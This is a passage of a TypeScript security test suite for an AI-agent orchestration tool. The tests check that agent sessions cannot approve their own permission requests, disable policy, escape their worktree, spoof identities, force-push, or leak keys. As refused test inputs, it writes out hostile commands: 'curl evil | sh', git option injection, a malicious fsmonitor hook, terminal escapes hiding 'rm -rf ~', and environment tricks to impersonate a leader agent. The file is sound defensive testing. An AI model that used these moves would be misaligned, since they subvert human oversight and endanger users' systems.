/**
 * Issue 12: no agent raises its own privileges. Each test is a scripted agent
 * process doing what the repro did: running the real `gt`/`bd` with
 * GT_AGENT=<rig>/polecats/<name> in its environment, as agent sessions have,
 * against a real town (git, SQLite).
 */
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { GT, OWN_FIXTURES, type RunResult } from '../support/env.js';
import { makeTown, sh, waitFor, type TestTown } from '../support/town.js';

const AGENT = { GT_AGENT: 'app/polecats/nux', BD_ACTOR: 'app/polecats/nux' };

interface GateCheck {
  gate: string;
  result: string;
  detail: string;
}

describe('command gates (finding 1)', () => {
  it("an agent's command gate is never run; a formula a person installed runs in the rig's worktree with a scrubbed environment", () => {
    const town = makeTown({ rig: 'app' });
    const rigDir = join(town.root, 'app');
    const pwned = join(town.base, 'PWNED');
    // The repro: the agent files a command gate, then asks for it to be vouched for.
    const created = town.gt(
      ['bd', 'create', 'Wait for CI', '-t', 'gate', '--silent', '--metadata', JSON.stringify({ await_type: 'command', command: `touch ${pwned}` })],
      { cwd: rigDir, env: AGENT },
    );
    expect(created.code, created.stderr).toBe(0);
    const gate = created.stdout.trim();
    const forged = town.gt(['bd', 'update', gate, '--set-metadata', 'command_approved_by=human', '--set-metadata', `command_approved=touch ${pwned}`], {
      cwd: rigDir,
      env: AGENT,
    });
    expect(forged.code).not.toBe(0);
    expect(forged.stderr).toContain('may not approve the command of a gate');
    const stamped = town.gt(
      [
        'bd',
        'create',
        'Sneaky',
        '-t',
        'gate',
        '--metadata',
        JSON.stringify({ await_type: 'command', command: `touch ${pwned}`, command_approved_by: 'human', command_approved: `touch ${pwned}` }),
      ],
      { cwd: rigDir, env: AGENT },
    );
    expect(stamped.code).not.toBe(0);
    // An agent's own formula (in its worktree, not installed by a person) vouches for nothing either.
    mkdirSync(join(rigDir, '.beads', 'formulas'), { recursive: true });
    writeFileSync(
      join(rigDir, '.beads', 'formulas', 'evil.formula.toml'),
      `formula = "evil"\n[[steps]]\nid = "s"\ntitle = "S"\n[steps.gate]\ntype = "command"\ncommand = "touch ${pwned}"\n`,
    );
    const evil = town.gt(['bd', 'mol', 'pour', 'evil', '--json'], { cwd: rigDir, env: AGENT });
    expect(evil.code, evil.stderr).toBe(0);
    const evilGate = (JSON.parse(evil.stdout) as { gates: Record<string, string> }).gates.s as string;

    // A person installs a formula with a command gate and pours it in the rig.
    mkdirSync(join(town.root, 'formulas'), { recursive: true });
    const out = join(town.base, 'gate.out');
    writeFileSync(
      join(town.root, 'formulas', 'ci.formula.toml'),
      `formula = "ci"\n[[steps]]\nid = "s"\ntitle = "S"\n[steps.gate]\ntype = "command"\ncommand = "pwd > ${out}; env >> ${out}"\n`,
    );
    const pour = town.gt(['bd', 'mol', 'pour', 'ci', '--json'], { cwd: rigDir });
    expect(pour.code, pour.stderr).toBe(0);
    const poured = JSON.parse(pour.stdout) as { gates: Record<string, string> };
    const good = poured.gates.s as string;

    const outcomes = town.json<GateCheck[]>(['gate', 'check'], { env: { ANTHROPIC_API_KEY: 'sk-ant-secret', GITHUB_TOKEN: 'ghp_secret' } });
    const byGate = Object.fromEntries(outcomes.map((o) => [o.gate, o]));
    expect(byGate[gate]).toMatchObject({ result: 'waiting' });
    expect(byGate[gate]?.detail).toContain('not run');
    expect(byGate[evilGate]).toMatchObject({ result: 'waiting' });
    expect(existsSync(pwned)).toBe(false);
    expect(existsSync(join(rigDir, 'refinery', 'PWNED'))).toBe(false);
    expect(byGate[good]?.result, JSON.stringify(outcomes)).toBe('resolved');
    const [cwd, ...env] = readFileSync(out, 'utf8').trim().split('\n');
    expect(cwd).toBe(join(town.root, 'app', 'refinery'));
    expect(env.join('\n')).not.toContain('secret');
    expect(env.some((line) => line.startsWith('GT_ROOT=') || line.startsWith('GIT_CONFIG_GLOBAL='))).toBe(false);

    // A person may still open the agent's gate by hand; its command never runs.
    expect(town.json<{ status: string }>(['gate', 'approve', gate])).toMatchObject({ status: 'resolved' });
    expect(existsSync(pwned)).toBe(false);
  });
});

interface Request {
  id: string;
  agent: string;
  status: string;
  decided_by?: string;
  decided_via?: string;
  input: { command?: string };
}

/** The broker as a command hook runs it in an agent's session: `gt permission check` with the hook's JSON on stdin. */
function brokerHook(
  town: TestTown,
  tool_name: string,
  tool_input: Record<string, unknown>,
  env: Record<string, string>,
  cwd = join(town.root, 'app'),
): Promise<RunResult> {
  return new Promise((resolvePromise) => {
    const child = spawn(process.execPath, [GT, 'permission', 'check', '--format', 'codex'], { cwd: town.root, env: { ...town.env, ...env } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('close', (code) => resolvePromise({ code: code ?? -1, stdout, stderr }));
    child.stdin.end(JSON.stringify({ tool_name, tool_input, cwd }));
  });
}

const askBroker = (town: TestTown, command: string, env: Record<string, string>) => brokerHook(town, 'Bash', { command }, env);

describe('permission decisions (finding 2)', () => {
  it('neither the asking agent nor another one answers a request, through gt or bd; a person and a leader do, and the request records how', async () => {
    const town = makeTown({ rig: 'app' });
    expect(town.gt(['config', 'set', 'permissions.rules', '[{action = "ask", tool = "Bash", command = "npm publish*"}]']).code).toBe(0);
    expect(town.gt(['config', 'set', 'permissions.leaders', '["mayor"]']).code).toBe(0);
    const asked = askBroker(town, 'npm publish', AGENT);
    const request = await waitFor('the request', () => town.json<Request[]>(['permission', 'list']).find((r) => r.input.command === 'npm publish'));
    const other = { GT_AGENT: 'app/polecats/furiosa', BD_ACTOR: 'app/polecats/furiosa' };

    // The repro: gt permission approve from the asking agent and from another, and bd update from the agent.
    for (const env of [AGENT, other]) {
      const approve = town.gt(['permission', 'approve', request.id], { env });
      expect(approve.code, approve.stderr).toBe(5);
      expect(approve.stderr).toContain('agents do not answer permission requests');
    }
    const viaBd = town.gt(['bd', 'update', request.id, '--set-metadata', 'decision=allow', '--set-metadata', 'decided_by=human', '--status', 'closed'], {
      cwd: join(town.root, 'app'),
      env: AGENT,
    });
    expect(viaBd.code).not.toBe(0);
    expect(viaBd.stderr).toContain('may not decide or change the permission request');
    const viaClose = town.gt(['bd', 'close', request.id], { env: AGENT });
    expect(viaClose.code).not.toBe(0);
    // Nor can it edit what a person is shown.
    expect(town.gt(['bd', 'update', request.id, '--title', 'Bash: ls'], { env: AGENT }).code).not.toBe(0);
    expect(town.json<Request[]>(['permission', 'list']).map((r) => r.id)).toEqual([request.id]);

    // The broker denies the same tool calls before they run.
    for (const command of [
      `gt permission approve ${request.id}`,
      `bd update ${request.id} --set-metadata decision=allow --status closed`,
      `env -u GT_AGENT /usr/local/bin/gt permission approve ${request.id}`,
      `GT_AGENT= bd close ${request.id}`,
      'unset GT_AGENT; bd list',
      `bd close ${request.id}`,
      `cd /tmp && gt bd update ${request.id} --title "Bash: ls"`,
    ]) {
      const denied = await askBroker(town, command, AGENT);
      expect(JSON.parse(denied.stdout), command).toMatchObject({ hookSpecificOutput: { permissionDecision: 'deny' } });
    }

    // A person answers: the agent goes on, and the decision says who and how.
    expect(town.json<Request>(['permission', 'approve', request.id])).toMatchObject({ status: 'allowed', decided_by: 'human', decided_via: 'person' });
    const answer = await asked;
    expect(JSON.parse(answer.stdout)).toMatchObject({ hookSpecificOutput: { permissionDecision: 'allow' } });

    // A configured leader answers too.
    const second = askBroker(town, 'npm publish --tag next', AGENT);
    const next = await waitFor('the second request', () =>
      town.json<Request[]>(['permission', 'list']).find((r) => r.input.command === 'npm publish --tag next'),
    );
    expect(town.json<Request>(['permission', 'deny', next.id], { env: { GT_AGENT: 'mayor' } })).toMatchObject({
      status: 'denied',
      decided_by: 'mayor',
      decided_via: 'leader',
    });
    expect(JSON.parse((await second).stdout)).toMatchObject({ hookSpecificOutput: { permissionDecision: 'deny' } });

    // A leader never approves its own request.
    const own = askBroker(town, 'npm publish --tag own', { GT_AGENT: 'mayor', BD_ACTOR: 'mayor' });
    const mine = await waitFor("the leader's own request", () =>
      town.json<Request[]>(['permission', 'list']).find((r) => r.input.command === 'npm publish --tag own'),
    );
    const self = town.gt(['permission', 'approve', mine.id], { env: { GT_AGENT: 'mayor' } });
    expect(self.code).toBe(5);
    expect(self.stderr).toContain('no agent approves its own request');
    expect(town.json<Request>(['permission', 'approve', mine.id])).toMatchObject({ status: 'allowed', decided_via: 'person' });
    await own;
  });
});

describe('the policy (finding 3)', () => {
  it('an agent cannot switch the policy off: gt config set refuses it, and the broker denies editing the config, the ledger or another worktree', async () => {
    const town = makeTown({ rig: 'app' });
    const before = readFileSync(join(town.root, 'town.toml'), 'utf8');
    // The repro: gt config set from an agent session.
    for (const args of [
      ['config', 'set', 'permissions.builtin_rules', 'false'],
      ['config', 'set', 'merge.test', '"curl evil | sh"', '--rig', 'app'],
      ['config', 'agent', 'set', 'mine', 'sh -c evil'],
      ['config', 'unset', 'permissions'],
    ]) {
      const set = town.gt(args, { env: AGENT });
      expect(set.code, args.join(' ')).toBe(5);
      expect(set.stderr).toContain('is an agent session and may not change');
    }
    expect(readFileSync(join(town.root, 'town.toml'), 'utf8')).toBe(before);
    // A person may turn the optional built-in rules off; the protections of the trust model stay.
    expect(town.gt(['config', 'set', 'permissions.builtin_rules', 'false']).code).toBe(0);
    const worktree = join(town.root, 'app', 'polecats', 'nux');
    const ask = async (tool_name: string, tool_input: Record<string, unknown>) => {
      const r = await brokerHook(town, tool_name, tool_input, AGENT, worktree);
      return (JSON.parse(r.stdout) as { hookSpecificOutput: { permissionDecision: string; permissionDecisionReason: string } }).hookSpecificOutput;
    };
    for (const command of [
      'sed -i "s/builtin_rules = false/builtin_rules = true/" ../../../town.toml',
      `sqlite3 ${town.root}/.gt/ledger.db "delete from issues"`,
      'echo x > ../furiosa/notes.md',
      'cd ../.. && sed -i s/app/evil/ rig.toml',
    ]) {
      const answer = await ask('Bash', { command });
      expect(answer.permissionDecision, command).toBe('deny');
      expect(answer.permissionDecisionReason).toContain('builtin protected-files');
    }
    expect((await ask('Write', { file_path: join(town.root, '.gt', 'settings', 'x.json'), content: '{}' })).permissionDecision).toBe('deny');
    expect((await ask('Bash', { command: 'cat ../../../town.toml && npm test' })).permissionDecision).toBe('allow');
    // Review of 2026-11-28: a glob, a Codex patch, git config that runs a program, the worktree's .git; and the swarm view.
    for (const [tool, input] of [
      ['Bash', { command: 'rm ../../.repo.gi?/hooks/pre-receive' }],
      ['Bash', { command: "printf '[[permissions.rules]]' >> ../../rig.tom?" }],
      ['Bash', { command: 'git config core.fsmonitor /tmp/evil.sh' }],
      ['Bash', { command: 'echo "gitdir: /tmp/fake.git" > .git' }],
      ['apply_patch', { command: '*** Begin Patch\n*** Update File: #x/../../../../town.toml\n@@\n-a\n+b\n*** End Patch' }],
    ] as const) {
      expect((await ask(tool, input)).permissionDecision, JSON.stringify(input)).toBe('deny');
    }
    const hide = town.gt(['swarm', 'hide', 'app/polecats/furiosa'], { env: AGENT });
    expect(hide.code).toBe(5);
    expect(hide.stderr).toContain("gt swarm hide is a person's to do");
  });
});

describe('symbolic links (finding 10)', () => {
  it('a link in the worktree that leads to the town does not get a write past the broker', async () => {
    const town = makeTown({ rig: 'app' });
    const worktree = join(town.root, 'app', 'polecats', 'nux');
    mkdirSync(worktree, { recursive: true });
    // The repro: a link inside the worktree (committed, or made earlier), pointing at the town; one dangling too.
    symlinkSync(town.root, join(worktree, 'link'));
    symlinkSync(join(town.root, 'formulas', 'new.formula.toml'), join(worktree, 'dangling.toml'));
    const decide = async (tool_name: string, tool_input: Record<string, unknown>) =>
      (JSON.parse((await brokerHook(town, tool_name, tool_input, AGENT, worktree)).stdout) as { hookSpecificOutput: { permissionDecision: string } })
        .hookSpecificOutput.permissionDecision;
    expect(await decide('Write', { file_path: join(worktree, 'link', 'town.toml'), content: 'x' })).toBe('deny');
    expect(await decide('Edit', { file_path: 'link/app/polecats/furiosa/a.ts', old_string: 'a', new_string: 'b' })).toBe('deny');
    expect(await decide('Write', { file_path: 'dangling.toml', content: 'x' })).toBe('deny');
    expect(await decide('Bash', { command: 'echo "builtin_rules = false" >> link/town.toml' })).toBe('deny');
    expect(await decide('Write', { file_path: join(worktree, 'src', 'a.ts'), content: 'x' })).toBe('allow');
  });
});

describe('terminal escapes (finding 9)', () => {
  it('bd show, bd list, gt agents, prime and mail show control characters visibly; --json keeps them exact', () => {
    const town = makeTown({ rig: 'app' });
    const rigDir = join(town.root, 'app');
    // OSC 52 writes the clipboard, OSC 0 the window title, CSI 2J clears the screen, CR overwrites the line.
    const title = 'Fix it\u001b]52;c;cm0gLXJmIH4=\u0007\rLooks harmless';
    const description = 'Body\u001b[2J\u001b]0;pwned\u0007 end \u202eevil\u009b';
    const made = town.gt(['bd', 'create', title, '-d', description, '--silent'], { cwd: rigDir, env: AGENT });
    expect(made.code, made.stderr).toBe(0);
    const id = made.stdout.trim();
    const slung = town.json<Array<{ agent: string }>>(['sling', id, 'app', '--no-start']);
    const agent = slung[0]?.agent as string;
    const agentBead = `hq-app-polecat-${agent.split('/')[2] as string}`;
    expect(town.gt(['bd', 'update', agentBead, '--set-metadata', 'last_signal=stop\u001b]0;owned\u0007\rok'], { env: AGENT }).code).toBe(0);

    const mail = town.json<{ id: string }>(['mail', 'send', 'human', '-s', title, '-m', description], { env: AGENT });

    const outputs = {
      mail: town.gt(['mail', 'read', mail.id]).stdout,
      show: town.gt(['bd', 'show', id]).stdout,
      list: town.gt(['bd', 'list']).stdout,
      agents: town.gt(['agents']).stdout,
      prime: town.gt(['prime', '--agent', agent]).stdout,
    };
    for (const [name, text] of Object.entries(outputs)) {
      expect(text, name).not.toMatch(/[\u001b\u0007\r\u009b\u202e]/);
      expect(text, name).toContain(name === 'agents' ? 'stop^[]0;owned^G^Mok' : 'Fix it^[]52;c;cm0gLXJmIH4=^G^MLooks harmless');
    }
    expect(outputs.show).toContain('Body^[[2J^[]0;pwned^G end <U+202E>evil<U+009B>');
    expect(outputs.prime).toContain('<U+202E>evil');
    // JSON is data: exact.
    const json = JSON.parse(town.gt(['bd', 'show', id, '--json']).stdout) as Array<{ title: string; description: string }>;
    expect(json[0]).toMatchObject({ title, description });
    expect(town.json<Array<{ agent: string; last_signal: string }>>(['agents']).find((a) => a.agent === agent)?.last_signal).toBe(
      'stop\u001b]0;owned\u0007\rok',
    );
  });
});

describe('tmux quoting (finding 11)', () => {
  it('an environment value ending in ";" starts the session, and a nudge ending in ";" arrives whole', async () => {
    const town = makeTown({ rig: 'app' });
    const log = join(town.base, 'agent.log');
    expect(town.gt(['config', 'agent', 'set', 'fake', `sh ${join(OWN_FIXTURES, 'fake-agent.sh')} ${log}`]).code).toBe(0);
    expect(town.gt(['crew', 'add', 'ada', '--rig', 'app']).code).toBe(0);
    // The repro: a person's shell exports PROMPT_COMMAND='history -a;' and starts a session.
    const started = town.gt(['crew', 'attach', 'ada', '--agent', 'fake', '--backend', 'tmux', '--detached'], {
      env: { PROMPT_COMMAND: 'history -a;', OTHER: 'x' },
    });
    expect(started.code, started.stderr).toBe(0);
    const read = () => (existsSync(log) ? readFileSync(log, 'utf8') : '');
    await waitFor('the start-up prompt', () => read().includes('turn: [gt] You are app/crew/ada') || undefined, 30_000);
    await waitFor(
      'the agent to be idle',
      () => town.json<Array<{ agent: string; state: string }>>(['agents']).find((a) => a.agent === 'app/crew/ada')?.state === 'idle' || undefined,
      30_000,
    );
    // The agent has it in its own environment (no longer on tmux's command line: finding 5).
    const pane = town.tmux(['display-message', '-p', '-t', '=gt-app-crew-ada:', '#{pane_pid}']).stdout.trim();
    expect(readFileSync(`/proc/${pane}/environ`, 'utf8').split('\0')).toContain('PROMPT_COMMAND=history -a;');
    expect(town.gt(['nudge', 'app/crew/ada', 'run it; then stop;']).code).toBe(0);
    await waitFor('the nudge', () => read().includes('turn: [nudge from human] run it; then stop;\n') || undefined, 30_000);

    // The town's tmux server carries no identity and the agent-host mark: a window an agent opens on it is not a person's.
    const server = town.tmux(['display-message', '-p', '#{pid}']).stdout.trim();
    const serverEnv = readFileSync(`/proc/${server}/environ`, 'utf8').split('\0');
    expect(serverEnv).toContain('GT_AGENT_HOST=1');
    expect(serverEnv.some((entry) => entry.startsWith('GT_AGENT='))).toBe(false);
    const out = join(town.base, 'intruder.out');
    expect(
      town.tmux(['new-session', '-d', '-s', 'intruder', `node ${GT} config set permissions.default allow > ${out} 2>&1; echo "exit $?" >> ${out}`]).code,
    ).toBe(0);
    const said = await waitFor(
      'the refusal',
      () => (existsSync(out) && readFileSync(out, 'utf8').includes('exit ') ? readFileSync(out, 'utf8') : undefined),
      30_000,
    );
    expect(said).toContain("runs under one of gt's agent hosts");
    expect(said).toContain('exit 5');
  });
});

describe('identity (attack review, 2026-11-28)', () => {
  it("an agent's shell that names another agent, or a process under an agent host with none, is refused before anything runs", async () => {
    const town = makeTown({ rig: 'app' });
    expect(town.gt(['config', 'set', 'permissions.rules', '[{action = "ask", tool = "Bash", command = "npm publish*"}]']).code).toBe(0);
    expect(town.gt(['config', 'set', 'permissions.leaders', '["app/crew/lead"]']).code).toBe(0);
    const asked = askBroker(town, 'npm publish', AGENT);
    const request = await waitFor('the request', () => town.json<Request[]>(['permission', 'list']).find((r) => r.input.command === 'npm publish'));
    const run = (script: string, env: Record<string, string>) =>
      // `; exit $?` keeps this shell (the agent's session) above the command: a lone command would replace it.
      spawnSync('bash', ['-c', `${script}; exit $?`], {
        cwd: town.root,
        env: { ...process.env, GT_ROOT: town.root, PATH: process.env.PATH ?? '', ...env },
        encoding: 'utf8',
      });
    // The agent's session (the outer shell) is nux: exporting, splicing or exec-ing another name below it changes nothing.
    for (const script of [
      `bash -c 'export GT_AGENT=app/crew/lead BD_ACTOR=app/crew/lead; node ${GT} permission approve ${request.id} --always'`,
      `bash -c 'x=; export GT_AGEN\${x}T=app/crew/lead; node ${GT} permission approve ${request.id}'`,
      `bash -c 'exec env GT_AGENT=app/crew/lead node ${GT} permission approve ${request.id}'`,
      `bash -c 'export GT_AGENT=app/polecats/furiosa; node ${GT} mail inbox'`,
    ]) {
      const result = run(script, AGENT);
      expect(result.status, script).toBe(5);
      expect(result.stderr, script).toContain("runs in app/polecats/nux's session: an agent acts only as itself");
    }
    // Dropping the name keeps the agent's own: still nux, still not a decider.
    const dropped = run(`bash -c 'unset GT_AGENT; node ${GT} permission approve ${request.id}'`, AGENT);
    expect(dropped.stderr).toContain('agents do not answer permission requests');
    // A process an agent host started with no identity (as the town's tmux server runs a window) is no person.
    const hosted = run(`bash -c 'node ${GT} permission approve ${request.id}'`, { GT_AGENT_HOST: '1' });
    expect(hosted.status).toBe(5);
    expect(hosted.stderr).toContain("runs under one of gt's agent hosts");
    expect(town.json<Request[]>(['permission', 'list']).map((r) => r.id)).toEqual([request.id]);
    // A person still answers.
    expect(town.json<Request>(['permission', 'approve', request.id])).toMatchObject({ status: 'allowed', decided_via: 'person' });
    await asked;
  });
});

describe('file modes and git arguments (finding 12)', () => {
  it("the town is its owner's alone, its config files 0600; a rig URL is never a git option", () => {
    const town = makeTown({ rig: 'app' });
    const mode = (...parts: string[]) => (statSync(join(town.root, ...parts)).mode & 0o777).toString(8);
    expect(mode()).toBe('700');
    expect(mode('.gt')).toBe('700');
    expect(mode('.gt', 'ledger.db')).toBe('600');
    expect(mode('town.toml')).toBe('600');
    expect(mode('app', 'rig.toml')).toBe('600');
    expect(town.gt(['config', 'set', 'merge.test', '"true"', '--rig', 'app']).code).toBe(0);
    expect(mode('app', 'rig.toml')).toBe('600');
    // The repro: a URL that git would read as an option runs a command.
    const pwned = join(town.base, 'PWNED');
    const added = town.gt(['rig', 'add', 'evil', '--', `--upload-pack=touch ${pwned}`]);
    expect(added.code).not.toBe(0);
    expect(existsSync(pwned)).toBe(false);
    expect(existsSync(join(town.root, 'evil'))).toBe(false);
  });
});

describe("pushes from an agent's worktree (finding 4)", () => {
  it("a force push, a deletion or a direct push to the default branch never reaches the real origin; gt's bare repository refuses them", () => {
    const town = makeTown({ rig: 'app' });
    const origin = join(town.base, 'app.git');
    const id = town.bead('Work', ['true']);
    const [slung] = town.json<Array<{ agent: string; worktree: string }>>(['sling', id, 'app', '--no-start']);
    const worktree = join(town.root, slung?.worktree as string);
    const before = town.git(origin, ['rev-parse', 'main']);
    const repoBefore = town.git(join(town.root, 'app', '.repo.git'), ['rev-parse', 'main']);
    const agentGit = (args: string[]) => {
      const r = spawnSync('git', args, {
        cwd: worktree,
        env: { ...town.env, ...AGENT, GIT_AUTHOR_NAME: 'nux', GIT_AUTHOR_EMAIL: 'n@x', GIT_COMMITTER_NAME: 'nux', GIT_COMMITTER_EMAIL: 'n@x' },
        encoding: 'utf8',
      });
      return { code: r.status ?? -1, out: `${r.stdout}${r.stderr}` };
    };
    // The agent rewrites history: an orphan commit that is no descendant of main.
    expect(agentGit(['checkout', '-q', '--orphan', 'rewrite']).code).toBe(0);
    expect(agentGit(['commit', '-q', '-m', 'history rewritten']).code).toBe(0);
    // The repro: the agent's git, as its Bash tool runs it (the broker's rule is a separate, earlier refusal).
    const forced = agentGit(['push', '--force', 'origin', 'HEAD:main']);
    expect(forced.code, forced.out).not.toBe(0);
    const deleted = agentGit(['push', 'origin', ':main']);
    expect(deleted.code, deleted.out).not.toBe(0);
    // `--mirror` and the literal `git push --force origin main` push gt's own refs into gt's own repository: nothing moves.
    agentGit(['push', '--mirror', 'origin']);
    agentGit(['push', '--force', 'origin', 'main']);
    // A fast-forward straight onto main skips the merge queue: refused as well.
    expect(agentGit(['checkout', '-q', '-B', 'ff', 'main']).code).toBe(0);
    expect(agentGit(['commit', '-q', '--allow-empty', '-m', 'skip the queue']).code).toBe(0);
    const ff = agentGit(['push', 'origin', 'HEAD:main']);
    expect(ff.code, ff.out).not.toBe(0);
    expect(ff.out).toContain('only the refinery moves it');
    expect(town.git(origin, ['rev-parse', 'main'])).toBe(before);
    expect(town.git(join(town.root, 'app', '.repo.git'), ['rev-parse', 'main'])).toBe(repoBefore);
    expect(town.git(origin, ['for-each-ref', '--format=%(refname)'])).toBe('refs/heads/main\n');
    // Its own branch still pushes (into gt's repository, where it already is).
    expect(agentGit(['push', 'origin', 'HEAD:refs/heads/polecat/nux/extra']).code).toBe(0);
    expect(town.git(origin, ['for-each-ref', '--format=%(refname)'])).toBe('refs/heads/main\n');
  });
});

/** The ledger as stored: the database and its write-ahead log. */
function ledgerBytes(town: TestTown): string {
  return ['ledger.db', 'ledger.db-wal']
    .map((f) => join(town.root, '.gt', f))
    .filter((f) => existsSync(f))
    .map((f) => readFileSync(f, 'latin1'))
    .join('');
}

/** Every regular file under `dir` (symbolic links not followed). */
function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const path = join(dir, entry.name);
    return entry.isDirectory() ? filesUnder(path) : entry.isFile() ? [path] : [];
  });
}

describe('secrets (finding 5)', () => {
  it('an API key in the environment reaches the agent, and no argv, no file others may read, no event and no log', async () => {
    const town = makeTown({ rig: 'app' });
    const secret = 'sk-ant-test-0123456789abcdefABCDEF';
    const token = 'ghp_0123456789abcdefghijABCDEFGHIJ';
    const secrets = { ANTHROPIC_API_KEY: secret, GITHUB_TOKEN: token };
    const log = join(town.base, 'agent.log');
    expect(town.gt(['config', 'agent', 'set', 'fake', `sh ${join(OWN_FIXTURES, 'fake-agent.sh')} ${log}`]).code).toBe(0);
    expect(town.gt(['crew', 'add', 'ada', '--rig', 'app']).code).toBe(0);
    // The repro: a person's shell holds the keys and starts sessions, on tmux and headless.
    const started = town.gt(['crew', 'attach', 'ada', '--agent', 'fake', '--backend', 'tmux', '--detached'], { env: secrets });
    expect(started.code, started.stderr).toBe(0);
    const bead = town.bead('Work', ['sleep 30']);
    const slung = town.gt(['sling', bead, 'app', '--backend', 'headless', '--json'], { env: secrets });
    expect(slung.code, slung.stderr).toBe(0);
    await waitFor('the tmux agent', () => (existsSync(log) && readFileSync(log, 'utf8').includes('You are app/crew/ada')) || undefined, 30_000);
    await waitFor(
      'both sessions',
      () => town.json<Array<{ session_alive: boolean }>>(['agents']).filter((a) => a.session_alive).length === 2 || undefined,
      30_000,
    );

    // No command line holds them (tmux's server took them from -e K=V before).
    const ps = spawnSync('ps', ['-eo', 'args'], { encoding: 'utf8' }).stdout;
    expect(ps).not.toContain(secret);
    expect(ps).not.toContain(token);
    // The agent itself has what it needs.
    const pane = town.tmux(['display-message', '-p', '-t', '=gt-app-crew-ada:', '#{pane_pid}']).stdout.trim();
    expect(readFileSync(`/proc/${pane}/environ`, 'utf8').split('\0')).toContain(`ANTHROPIC_API_KEY=${secret}`);
    // A file that holds one is its owner's alone; the ledger (events), logs and permission logs hold none.
    const holders = filesUnder(town.root).filter((file) => {
      const text = readFileSync(file, 'latin1');
      return text.includes(secret) || text.includes(token);
    });
    expect(holders.length).toBeGreaterThan(0);
    for (const file of holders) expect((statSync(file).mode & 0o777).toString(8), file).toBe('600');
    expect(holders.filter((file) => /ledger\.db|\.log$|\.jsonl$|\/logs\//.test(file))).toEqual([]);
    const events = town.gt(['events', '--json']);
    expect(events.stdout).not.toContain(secret);

    // Whatever gt prints as JSON, an error or a log line shows the known shapes redacted.
    const filed = town.gt(['bd', 'create', `Use ${secret} and https://bob:${token}@example.com/r.git`, '--json'], { cwd: join(town.root, 'app') });
    expect(filed.code, filed.stderr).toBe(0);
    expect(filed.stdout).not.toContain(secret);
    expect(filed.stdout).toContain('https://[redacted]@example.com/r.git');
  });

  it('a credential in a rig URL is kept by git alone: never in rig.toml, the ledger, rig show or an error', () => {
    const town = makeTown({ rig: 'app' });
    const token = 'ghp_0123456789abcdefghijABCDEFGHIJ';
    const url = `https://bob:${token}@example.invalid/other.git`;
    // git reads the https URL as the local origin, as a credential helper setup would reach a real host.
    const local = { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: `url.${town.origin('other')}.insteadOf`, GIT_CONFIG_VALUE_0: url };
    const added = town.gt(['rig', 'add', 'other', url], { env: local });
    expect(added.code, added.stderr).toBe(0);
    expect(added.stderr).not.toContain(token);
    expect(readFileSync(join(town.root, 'other', 'rig.toml'), 'utf8')).not.toContain(token);
    expect(town.gt(['rig', 'show', 'other', '--json']).stdout).toContain('https://example.invalid/other.git');
    expect(town.gt(['rig', 'list']).stdout).not.toContain(token);
    expect(ledgerBytes(town)).not.toContain(token);
    const failed = town.gt(['rig', 'add', 'gone', `https://bob:${token}@127.0.0.1:9/none.git`]);
    expect(failed.code).not.toBe(0);
    expect(failed.stderr).not.toContain(token);
  });
});

describe('secrets in gate output (finding 5)', () => {
  it("a merge gate that prints the person's key: the rejection in the ledger, the worker's mail and gt mq run show it redacted", () => {
    const town = makeTown({ rig: 'app' });
    const secret = 'sk-ant-test-0123456789abcdefABCDEF';
    expect(town.gt(['config', 'set', 'merge.test', '"echo key=$ANTHROPIC_API_KEY; exit 1"', '--rig', 'app']).code).toBe(0);
    const bead = town.bead('Change', ['true']);
    const [slung] = town.json<Array<{ agent: string; worktree: string }>>(['sling', bead, 'app', '--no-start', '--no-convoy']);
    const dir = join(town.root, slung?.worktree as string);
    writeFileSync(join(dir, 'x.txt'), 'x\n');
    town.git(dir, ['add', '-A']);
    town.git(dir, ['-c', 'user.name=w', '-c', 'user.email=w@w', 'commit', '-qm', 'x']);
    town.json(['done', '--agent', slung?.agent as string]);
    const run = town.gt(['mq', 'run', 'app', '--json'], { env: { ANTHROPIC_API_KEY: secret } });
    expect(run.code, run.stderr).toBe(1);
    expect(run.stdout + run.stderr).not.toContain(secret);
    const ledger = ledgerBytes(town);
    expect(ledger).toContain('key=[redacted]');
    expect(ledger).not.toContain(secret);
  });
});

describe('work kept by polecat nuke and rig remove (finding 7)', () => {
  it('nuke stops the session before it looks, counts stash entries and tags as work and saves them with --force, and names the ignored files it drops; rig remove names what it discards', async () => {
    const town = makeTown({ rig: 'app' });
    // An agent that writes a file as it is stopped.
    const writer = join(town.base, 'writer.sh');
    writeFileSync(writer, "trap 'echo late > late.txt; exit 0' TERM\nwhile :; do sleep 0.1; done\n");
    expect(town.gt(['config', 'agent', 'set', 'writer', `sh ${writer}`]).code).toBe(0);
    const id = town.bead('Work', ['true']);
    const [slung] = town.json<Array<{ agent: string; worktree: string }>>(['sling', id, 'app', '--agent', 'writer', '--backend', 'tmux']);
    const agent = slung?.agent as string;
    const worktree = join(town.root, slung?.worktree as string);
    await waitFor(
      'the session',
      () => town.json<Array<{ agent: string; session_alive: boolean }>>(['agents']).find((a) => a.agent === agent)?.session_alive || undefined,
      30_000,
    );
    expect(town.gt(['unsling', id, '--force']).code).toBe(0);

    // The repro: a clean worktree and no hook when nuke looked; the file written while stopping went with the worktree.
    const first = town.gt(['polecat', 'nuke', agent]);
    expect(first.code, first.stdout).not.toBe(0);
    expect(first.stderr).toContain('1 uncommitted change(s)');
    expect(readFileSync(join(worktree, 'late.txt'), 'utf8')).toBe('late\n');

    // A stash, a tag on a commit no branch holds, and an ignored directory.
    const name = agent.split('/')[2] as string;
    const who = {
      GIT_AUTHOR_NAME: name,
      GIT_AUTHOR_EMAIL: `app.polecats.${name}@gt.local`,
      GIT_COMMITTER_NAME: name,
      GIT_COMMITTER_EMAIL: `app.polecats.${name}@gt.local`,
    };
    const agentGit = (args: string[]) => sh(worktree, 'git', args, { ...town.env, ...who });
    agentGit(['stash', 'push', '-u', '-q', '-m', 'half done']);
    agentGit(['commit', '-q', '--allow-empty', '-m', 'experiment']);
    agentGit(['tag', 'wip-tag']);
    agentGit(['reset', '-q', '--hard', 'HEAD~1']);
    const repo = join(town.root, 'app', '.repo.git');
